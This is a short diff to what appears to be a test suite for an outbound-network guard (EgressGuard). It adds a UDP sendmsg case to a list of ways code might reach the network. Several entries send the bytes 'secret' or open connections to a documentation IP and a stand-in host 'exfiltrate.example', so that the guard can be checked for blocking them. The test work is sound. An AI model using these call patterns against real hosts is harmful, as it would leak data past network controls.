@@ -24,6 +24,9 @@ EgressGuard(["10.9.8.0/24", "models.example:8000"], on_refused=refused.append).e
 def udp():
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         s.sendto(b"secret", ("198.51.100.7", 53))
+def message():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.sendmsg([b"secret"], [], 0, ("198.51.100.7", 53))
 async def streams():
     await asyncio.open_connection("198.51.100.7", 443)
 ways = {
@@ -31,6 +34,7 @@ ways = {
     "connect_ex": lambda: socket.socket().connect_ex(("198.51.100.7", 443)),
     "name": lambda: socket.getaddrinfo("exfiltrate.example", 443),
     "udp": udp,
+    "message": message,
     "urllib": lambda: urllib.request.urlopen("http://198.51.100.7/", timeout=1),
     "http.client": lambda: http.client.HTTPConnection("exfiltrate.example", timeout=1).request("GET", "/"),
     "httpx": lambda: httpx.get("https://198.51.100.7/", timeout=1, trust_env=False),
